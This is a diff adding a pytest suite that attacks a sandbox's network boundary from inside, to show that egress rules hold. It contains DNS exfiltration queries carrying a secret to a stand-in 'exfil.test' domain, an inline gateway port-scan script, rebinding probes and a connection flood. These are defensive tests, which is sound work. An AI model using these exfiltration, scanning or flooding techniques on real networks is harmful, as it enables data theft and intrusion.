@@ -1,0 +1,259 @@
+# SPDX-License-Identifier: Apache-2.0
+"""The network boundary, attacked from inside a sandbox and judged at sinks on the host.
+
+netlab puts listeners on every destination a sandbox must never reach (cloud metadata,
+private ranges, every host address) and logs every query its upstream DNS server sees. A
+connection that looks successful from inside proves nothing: the proxy accepts every TCP
+connection before it decides. Only what arrives at a sink counts.
+"""
+
+import socket
+import time
+
+import pytest
+
+import netlab
+from netlab import WEB, OTHER, METADATA, PRIVATE, HOST_ADDR, run_client, net_info
+
+
+@pytest.fixture(scope="module")
+def lab():
+    lab = netlab.Lab()
+    yield lab
+    lab.close()
+
+
+@pytest.fixture(scope="module")
+def nd(lab):
+    d = netlab.start_isolad()
+    yield d
+    problems = netlab.stop_isolad(d)
+    assert not problems, problems
+
+
+@pytest.fixture
+def c(nd):
+    return nd.client(timeout=60)
+
+
+@pytest.fixture
+def mk(c):
+    made = []
+
+    def make(network=None):
+        sb = c.create_sandbox(**({"network": network} if network is not None else {}))
+        made.append(sb["id"])
+        return sb["id"]
+
+    yield make
+    for sid in made:
+        c.delete_sandbox(sid)
+
+
+@pytest.fixture
+def host_sink():
+    s = netlab.HostSink()
+    yield s
+    s.close()
+
+
+def host_addresses():
+    """Every IPv4 address of the host (its own interfaces, not the lab's)."""
+    out = netlab.sh("ip", "-4", "-o", "addr", "show").stdout
+    return sorted({line.split()[3].split("/")[0] for line in out.splitlines()})
+
+
+def test_forbidden_destinations_unreachable_under_allow_all(c, mk, lab, host_sink):
+    sid = mk({"default": "allow"})
+    gw = net_info(c, sid)["gateway"]
+    # Positive control: the path works, so the silence below means something.
+    m = lab.mark()
+    run_client(c, sid, "tcp", WEB, 8080)
+    assert len(lab.connections(m, dest=WEB)) == 1, lab.events(m)
+
+    m = lab.mark()
+    hints = []
+    for dst in [METADATA] + PRIVATE:
+        for port in (80, 443, 8080):
+            hints.append(run_client(c, sid, "tcp", dst, port))
+        hints.append(run_client(c, sid, "http", dst, dst, 80))
+        hints.append(run_client(c, sid, "tls", dst, dst, 443))
+        hints.append(run_client(c, sid, "udp", dst, 80))
+    # Every host address, the sandbox's gateway included, TCP and UDP.
+    targets = sorted(set(host_addresses() + [gw, HOST_ADDR]) - {"127.0.0.1"})
+    for dst in targets:
+        hints.append(run_client(c, sid, "tcp", dst, host_sink.port))
+        hints.append(run_client(c, sid, "http", "localhost", dst, host_sink.port))
+        hints.append(run_client(c, sid, "udp", dst, host_sink.port))
+    # A name that the proxy resolves must not lead there either.
+    hints.append(run_client(c, sid, "http", "rebind.allowed.test", WEB, 80))
+    hints.append(run_client(c, sid, "http", "priv.allowed.test", WEB, 80))
+    hints.append(run_client(c, sid, "http", "loop.allowed.test", WEB, host_sink.port))
+    hints.append(run_client(c, sid, "tls", "rebind.allowed.test", WEB, 443))
+    # DNS over TLS is dropped even to an allowed address.
+    hints.append(run_client(c, sid, "tcp", WEB, 853))
+    time.sleep(0.5)
+    for dst in [METADATA] + PRIVATE:
+        assert lab.connections(m, dest=dst) == [], (dst, hints)
+    assert lab.connections(m, dest=WEB) == [], hints
+    assert host_sink.events == [], (host_sink.events, targets)
+
+
+def test_dns_exfiltration_confined_to_allowed_names(c, mk, lab):
+    sid = mk({"allow": ["*.allowed.test"]})
+    secret = "s3cr3t" + "a" * 57
+    m = lab.mark()
+    hints = [
+        run_client(c, sid, "dns", f"{secret}.exfil.test", 1),
+        run_client(c, sid, "dns", f"{secret}.{secret}.exfil.test", 16),
+        run_client(c, sid, "dns", "exfil.test", 16),
+        run_client(c, sid, "dns", "allowed.test", 16),  # the apex is not under *.
+        run_client(c, sid, "dns", f"{secret}.other.test", 28),
+        # Straight at the lab's own DNS server, UDP and TCP: redirected to isola's resolver.
+        run_client(c, sid, "dns", f"{secret}.exfil.test", 1, netlab.NS_ADDR),
+        run_client(c, sid, "dns", f"{secret}.exfil.test", 16, netlab.NS_ADDR, "tcp"),
+        # Allowed names: forwarded, TXT included (exfiltration confined to them).
+        run_client(c, sid, "dns", f"{secret}.allowed.test", 16),
+        run_client(c, sid, "dns", "www.allowed.test", 1),
+    ]
+    time.sleep(0.3)
+    seen = lab.queries(m)
+    assert seen, hints
+    assert all(name.endswith(".allowed.test") for name, _ in seen), (seen, hints)
+    assert not any("exfil" in n or "other" in n for n, _ in seen), seen
+    for h in hints[:7]:
+        assert h.get("rcode") == 5, hints  # REFUSED by isola's resolver
+    # Every query the upstream saw came from the host (isola's resolver), none from a sandbox.
+    lines = [l for l in lab.text()[m:].splitlines() if l.startswith("Q ")]
+    assert {l.split()[3] for l in lines} == {HOST_ADDR}, lines
+
+
+def test_dns_rebinding_blocked(c, mk, lab):
+    sid = mk({"allow": ["*.allowed.test"]})
+    ok = run_client(c, sid, "dns", "www.allowed.test", 1)
+    assert ok["addrs"] == [WEB], ok  # control
+    for name in ("rebind.allowed.test", "loop.allowed.test", "priv.allowed.test"):
+        res = run_client(c, sid, "dns", name, 1)
+        assert res.get("rcode") == 0 and res.get("addrs") == [], (name, res)
+    m = lab.mark()
+    run_client(c, sid, "http", "rebind.allowed.test", WEB, 80)
+    run_client(c, sid, "http", "priv.allowed.test", WEB, 80)
+    time.sleep(0.3)
+    assert lab.connections(m) == [], lab.events(m)
+
+
+def test_gateway_scan_finds_only_resolver_and_proxy(c, mk, nd, host_sink):
+    sid = mk({"default": "allow"})
+    gw = net_info(c, sid)["gateway"]
+    # Listeners on the host at the ports a scan would look at first.
+    extra = []
+    for port in (22, 80, 443, 2375, 8080, 10250):
+        s = socket.socket()
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        try:
+            s.bind((gw, port))
+        except OSError:
+            s.close()
+            continue
+        s.listen(8)
+        s.setblocking(False)
+        extra.append(s)
+    ports = [22, 53, 80, 443, 2375, 8080, 10250, nd.port, host_sink.port]
+    script = (
+        "import socket\n"
+        f"for p in {ports!r}:\n"
+        "    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):\n"
+        "        s = socket.socket(socket.AF_INET, kind); s.settimeout(0.5)\n"
+        "        try:\n"
+        f"            s.connect(('{gw}', p)); s.send(b'x')\n"
+        "        except OSError:\n"
+        "            pass\n"
+        "        s.close()\n")
+    c.exec(sid, cmd=["python3", "-c", script], timeout=60)
+    time.sleep(0.5)
+    accepted = []
+    for s in extra:
+        try:
+            s.accept()
+            accepted.append(s.getsockname())
+        except BlockingIOError:
+            pass
+        s.close()
+    assert accepted == [], accepted
+    assert host_sink.events == [], host_sink.events
+    # What answered is the proxy (it logs a decision for each TCP connection), nothing else.
+    assert "egress proxy" in nd.log_text() or "proxy" in nd.log_text()
+
+
+def test_other_sandboxes_unreachable(c, mk):
+    a = mk({"default": "allow"})
+    b = mk({"default": "allow"})
+    bi = net_info(c, b)
+    server = (
+        "import socket, threading, time\n"
+        "out = open('/tmp/hits', 'a', buffering=1)\n"
+        "t = socket.socket(); t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n"
+        "t.bind(('0.0.0.0', 9000)); t.listen(8)\n"
+        "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(('0.0.0.0', 9001))\n"
+        "def tcp():\n"
+        "    while True:\n"
+        "        x, p = t.accept(); out.write(f'tcp {p[0]}\\n'); x.close()\n"
+        "def udp():\n"
+        "    while True:\n"
+        "        _, p = u.recvfrom(100); out.write(f'udp {p[0]}\\n')\n"
+        "threading.Thread(target=tcp, daemon=True).start()\n"
+        "threading.Thread(target=udp, daemon=True).start()\n"
+        "open('/tmp/ready', 'w').close()\n"
+        "time.sleep(60)\n")
+    c.request("POST", f"/v1/sandboxes/{b}/processes", json={"cmd": ["python3", "-c", server]})
+    for _ in range(100):
+        if c.exec(b, cmd=["test", "-e", "/tmp/ready"])["exit_code"] == 0:
+            break
+        time.sleep(0.1)
+    # Control: B's own listener works.
+    run_client(c, b, "tcp", "127.0.0.1", 9000)
+    for dst in (bi["address"], bi["gateway"]):
+        run_client(c, a, "tcp", dst, 9000)
+        run_client(c, a, "udp", dst, 9001)
+        run_client(c, a, "http", "x", dst, 9000)
+    time.sleep(0.5)
+    hits = c.read_file(b, "/tmp/hits").decode().split("\n")
+    assert [h for h in hits if h] == ["tcp 127.0.0.1"], hits
+
+
+def test_flood_does_not_starve_another_sandbox(lab):
+    """One sandbox opens many fast downloads; the proxy's per-sandbox connection limit and
+    token bucket hold it, and another sandbox still gets through promptly."""
+    d = netlab.start_isolad("--egress-max-conns", "4", "--egress-rate", "4M")
+    try:
+        c = d.client(timeout=60)
+        a = c.create_sandbox(network={"default": "allow"})["id"]
+        b = c.create_sandbox(network={"allow": ["allowed.test"]})["id"]
+        flood = (
+            "import socket, threading\n"
+            "def dl():\n"
+            "    try:\n"
+            f"        s = socket.create_connection(('{WEB}', 80), timeout=30)\n"
+            "        s.sendall(b'GET /big/20000000 HTTP/1.1\\r\\nHost: w\\r\\n\\r\\n')\n"
+            "        while s.recv(1 << 16): pass\n"
+            "    except OSError: pass\n"
+            "for _ in range(24): threading.Thread(target=dl).start()\n")
+        m = lab.mark()
+        c.request("POST", f"/v1/sandboxes/{a}/processes",
+                  json={"cmd": ["python3", "-c", flood]})
+        time.sleep(3)
+        flood_conns = len(lab.connections(m, dest=WEB))
+        t0 = time.time()
+        got = run_client(c, b, "http", "allowed.test", WEB, 80)
+        took = time.time() - t0
+        hi = [e for e in lab.connections(m, dest=WEB) if b"Host: allowed.test" in e[2]]
+        assert len(hi) == 1, (got, lab.events(m)[-5:])
+        assert took < 10, f"the other sandbox waited {took:.1f}s behind the flood"
+        # At most the limit of the flooding sandbox's connections were let through at once
+        # (each 20 MB download lasts >= 5 s at 4 MB/s).
+        assert flood_conns <= 4, f"{flood_conns} flood connections reached the sink"
+        n = net_info(c, a)["counters"]
+        assert n["denied"] >= 1, n
+    finally:
+        problems = netlab.stop_isolad(d)
+    assert not problems, problems
